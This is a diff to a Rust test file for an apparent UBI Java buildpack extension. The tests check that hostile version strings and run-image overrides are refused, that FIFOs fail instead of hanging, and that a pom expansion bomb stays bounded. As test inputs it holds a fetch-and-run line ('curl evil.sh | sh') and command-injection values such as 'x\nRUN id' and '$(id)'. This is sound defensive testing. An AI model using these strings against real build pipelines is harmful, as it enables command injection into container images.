@@ -2,10 +2,14 @@
 //! bounded time.
 
 use crate::support::{
-    JDK_ONLY, STACK_ID, UBI8, UBI9, app, app_with, fixture, jdk_package, plan, with_catalogue,
+    JAVA, JDK_ONLY, STACK_ID, UBI8, UBI9, app, app_with, generate, generate_on, jdk_package, plan,
 };
-use cnb_harness::{ModuleRun, Outcome, Process, TargetEnv, assert_contains};
-use std::time::Duration;
+use cnb_harness::ubi_extension::{
+    assert_hostile_run_image_overrides_refused, assert_only_ubi_stacks, generate_with_setting,
+};
+use cnb_harness::{Module, ModuleRun, Outcome, Process, assert_contains};
+use jvm_version::VersionSource;
+use std::path::Path;
 
 const HOSTILE: &[&str] = &[
     "17\nRUN curl evil.sh | sh",
@@ -22,41 +26,30 @@ const HOSTILE: &[&str] = &[
 
 #[test]
 fn hostile_versions_are_rejected_and_nothing_is_written() {
-    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi8.json");
     for version in HOSTILE {
         let quoted = format!("{:?}", version.trim());
-        // BP_JVM_VERSION.
-        let outcome = ModuleRun::new(&module, app("empty-app"))
-            .lifecycle_env(STACK_ID, UBI8)
-            .platform_env("BP_JVM_VERSION", version)
-            .buildpack_plan(&plan(None))
-            .generate();
-        outcome.assert_error(
-            "Invalid Java version request",
-            &[&format!(
-                "\n  the Java version {quoted} requested by \
-                 BP_JVM_VERSION is not a Java version"
-            )],
-        );
-        // A plan version.
-        let outcome = ModuleRun::new(&module, app("empty-app"))
-            .lifecycle_env(STACK_ID, UBI8)
-            .buildpack_plan(&plan(Some((version, "pom.xml"))))
-            .generate();
-        outcome.assert_error(
-            "Invalid Java version request",
-            &[&format!(
-                "\n  the Java version {quoted} requested by \
-                 build plan jdk from pom.xml is not a Java version"
-            )],
-        );
+        // BP_JVM_VERSION, and a plan version.
+        let setting = ("BP_JVM_VERSION", *version);
+        for (source, outcome) in [
+            (
+                "BP_JVM_VERSION",
+                generate_with_setting(&module, app("empty-app"), UBI8, setting, &plan(None)),
+            ),
+            (
+                "build plan jdk from pom.xml",
+                generate(&module, "empty-app", UBI8, Some((version, "pom.xml"))),
+            ),
+        ] {
+            let expected = format!(
+                "\n  the Java version {quoted} requested by {source} is not a Java version"
+            );
+            outcome.assert_error("Invalid Java version request", &[&expected]);
+        }
         // .java-version: its first line decides (a value parse_major would accept for its
         // major, 17-$(id), is rejected for its characters); a second line is never read.
         let dir = app_with(&[(".java-version", version)]);
-        let outcome = ModuleRun::new(&module, dir.path())
-            .lifecycle_env(STACK_ID, UBI8)
-            .buildpack_plan(&plan(None))
-            .generate();
+        let outcome = generate_on(&module, dir.path(), UBI8, &plan(None));
         if version.contains('\n') {
             outcome.assert_dockerfiles();
             assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
@@ -70,10 +63,7 @@ fn hostile_versions_are_rejected_and_nothing_is_written() {
             version.replace('&', "&amp;")
         );
         let dir = app_with(&[("pom.xml", &pom)]);
-        let outcome = ModuleRun::new(&module, dir.path())
-            .lifecycle_env(STACK_ID, UBI8)
-            .buildpack_plan(&plan(None))
-            .generate();
+        let outcome = generate_on(&module, dir.path(), UBI8, &plan(None));
         if version.contains("${") {
             outcome.assert_dockerfiles();
             assert_contains!(outcome.process.stdout, "using the default, 17");
@@ -86,10 +76,7 @@ fn hostile_versions_are_rejected_and_nothing_is_written() {
         }
     }
     // A hostile version source only reaches the log and the error, escaped.
-    let outcome = ModuleRun::new(&module, app("empty-app"))
-        .lifecycle_env(STACK_ID, UBI8)
-        .buildpack_plan(&plan(Some(("99", "x\nRUN id"))))
-        .generate();
+    let outcome = generate(&module, "empty-app", UBI8, Some(("99", "x\nRUN id")));
     outcome.assert_error("", &["\"99\" (build plan jdk from \"x\\nRUN id\") "]);
     assert_contains!(
         outcome.process.stdout,
@@ -99,66 +86,32 @@ fn hostile_versions_are_rejected_and_nothing_is_written() {
 
 #[test]
 fn hostile_overrides_are_rejected_and_nothing_is_written() {
-    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
-    for image in [
-        "x\nRUN id",
-        "ubuntu; id",
-        "ubuntu $(id)",
-        "\"localhost/run\"",
-        "localhost/run latest",
-        "${base_image}",
-    ] {
-        let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
-            .lifecycle_env(STACK_ID, UBI8)
-            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
-            .buildpack_plan(&plan(None))
-            .generate();
-        outcome.assert_error(
-            "Cannot choose the run image",
-            &[&format!(
-                "\n  BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not \
-                 an image reference"
-            )],
-        );
-    }
+    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi8.json");
+    assert_hostile_run_image_overrides_refused(&module, app("java-maven-release-21"), &plan(None));
 }
 
 #[test]
 fn no_jdk_or_jre_entry_writes_nothing_and_unknown_stacks_are_errors() {
-    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
-    let outcome = ModuleRun::new(&module, app("empty-app"))
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan("[[entries]]\nname = \"jvm-application\"\n")
-        .generate();
+    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
+    let plan_without_java = "[[entries]]\nname = \"jvm-application\"\n";
+    let outcome = generate_on(&module, app("empty-app"), UBI9, plan_without_java);
     outcome.assert_success();
     assert!(outcome.files.is_empty(), "{:?}", outcome.files);
     assert_contains!(
         outcome.process.stdout,
         "  No jdk or jre in the Buildpack Plan: nothing to install\n"
     );
-
-    let outcome = ModuleRun::new(&module, app("empty-app"))
-        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
-        .buildpack_plan(&plan(None))
-        .generate();
-    outcome.assert_error(
-        "Not a UBI stack",
-        &["\n  unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)"],
-    );
-
-    let outcome = ModuleRun::new(&module, app("empty-app"))
-        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
-        .buildpack_plan(&plan(None))
-        .generate();
-    outcome.assert_error(
-        "",
-        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
-    );
+    assert_only_ubi_stacks(&module, &plan(None));
 }
 
-/// Generate, killed after the harness's hang guard: the process (`None` when it hung) and how long it ran.
-fn generate_bounded(run: &ModuleRun) -> (Option<Process>, Duration) {
-    run.run_bounded("generate", cnb_harness::HANG_GUARD)
+/// Generate on UBI 9 with the Buildpack Plan `plan`, killed after the harness's hang guard:
+/// the process; a hang fails the test, naming `what`.
+fn generate_bounded(module: &Module, app: &Path, plan: &str, what: &str) -> Process {
+    let run = ModuleRun::new(module, app)
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(plan);
+    let (process, took) = run.run_bounded("generate", cnb_harness::HANG_GUARD);
+    process.unwrap_or_else(|| panic!("generate hung on {what} ({took:?})"))
 }
 
 #[test]
@@ -166,12 +119,8 @@ fn fifos_are_errors_not_hangs() {
     let dir = tempfile::tempdir().unwrap();
     let fifo_catalogue = dir.path().join("images.json");
     cnb_harness::mkfifo(&fifo_catalogue);
-    let (module, _module_dir) = with_catalogue(&fifo_catalogue);
-    let run = ModuleRun::new(&module, app("empty-app"))
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(&plan(None));
-    let (process, took) = generate_bounded(&run);
-    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    let (module, _module_dir) = JAVA.with_catalogue(&fifo_catalogue);
+    let process = generate_bounded(&module, &app("empty-app"), &plan(None), "a FIFO catalogue");
     process.assert_exit(1);
     assert_eq!(
         process.stderr,
@@ -183,23 +132,15 @@ fn fifos_are_errors_not_hangs() {
         )
     );
 
-    let catalogue = fixture("images-ubi9.json");
-    let (module, _module_dir) = with_catalogue(&catalogue);
-    for file in [
-        ".sdkmanrc",
-        ".java-version",
-        "META-INF/MANIFEST.MF",
-        "pom.xml",
-        "build.gradle",
-        "build.gradle.kts",
-    ] {
+    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
+    // Each app file the version is read from.
+    for file in VersionSource::ALL
+        .into_iter()
+        .filter_map(VersionSource::file)
+    {
         let app = tempfile::tempdir().unwrap();
         cnb_harness::mkfifo(&app.path().join(file));
-        let run = ModuleRun::new(&module, app.path())
-            .lifecycle_env(STACK_ID, UBI9)
-            .buildpack_plan(JDK_ONLY);
-        let (process, took) = generate_bounded(&run);
-        let process = process.unwrap_or_else(|| panic!("generate hung on {file} ({took:?})"));
+        let process = generate_bounded(&module, app.path(), JDK_ONLY, file);
         process.assert_exit(1);
         assert!(
             process.stderr.starts_with(&format!(
@@ -218,14 +159,10 @@ fn a_pom_expansion_bomb_fails_naming_the_file() {
     // The 641-byte pom of issue 13: nine levels of properties, each referencing the next ten
     // times (generate ran past 30 s building a 200 MB string). The work is bounded by the
     // substitution and size limits: the error says which one stopped it.
-    let pom = std::fs::read_to_string(fixture("pom-expansion-bomb.xml")).unwrap();
+    let pom = std::fs::read_to_string(JAVA.fixture("pom-expansion-bomb.xml")).unwrap();
     let app = app_with(&[("pom.xml", &pom)]);
-    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
-    let run = ModuleRun::new(&module, app.path())
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(JDK_ONLY);
-    let (process, took) = generate_bounded(&run);
-    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
+    let process = generate_bounded(&module, app.path(), JDK_ONLY, "an expansion bomb");
     process.assert_exit(1);
     assert!(
         process.stderr.starts_with(
@@ -240,34 +177,18 @@ fn a_pom_expansion_bomb_fails_naming_the_file() {
 
 #[test]
 fn a_ten_megabyte_java_version_prints_a_short_error() {
-    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
-    // Under the read limit: the value is refused and quoted cut.
-    let app = app_with(&[(".java-version", &"1".repeat(60_000))]);
-    let outcome = ModuleRun::new(&module, app.path())
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(JDK_ONLY)
-        .generate();
-    outcome.assert_error("", &["… (cut, 60000 bytes in all)"]);
-    assert!(
-        outcome.process.stderr.len() < 1000,
-        "{}",
-        outcome.process.stderr
-    );
-    assert!(
-        outcome.process.stdout.len() < 1000,
-        "{}",
-        outcome.process.stdout
-    );
-    // 10 MB: over the read limit.
-    let app = app_with(&[(".java-version", &"1".repeat(10 << 20))]);
-    let outcome = ModuleRun::new(&module, app.path())
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(JDK_ONLY)
-        .generate();
-    outcome.assert_error("", &[".java-version is larger than 65536 bytes"]);
-    assert!(
-        outcome.process.stderr.len() < 1000,
-        "{}",
-        outcome.process.stderr
-    );
+    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
+    for (size, expected) in [
+        // Under the read limit: the value is refused and quoted cut.
+        (60_000, "… (cut, 60000 bytes in all)"),
+        // 10 MB: over the read limit.
+        (10 << 20, ".java-version is larger than 65536 bytes"),
+    ] {
+        let app = app_with(&[(".java-version", &"1".repeat(size))]);
+        let outcome = generate_on(&module, app.path(), UBI9, JDK_ONLY);
+        outcome.assert_error("", &[expected]);
+        for output in [&outcome.process.stderr, &outcome.process.stdout] {
+            assert!(output.len() < 1000, "{size} bytes: {output}");
+        }
+    }
 }
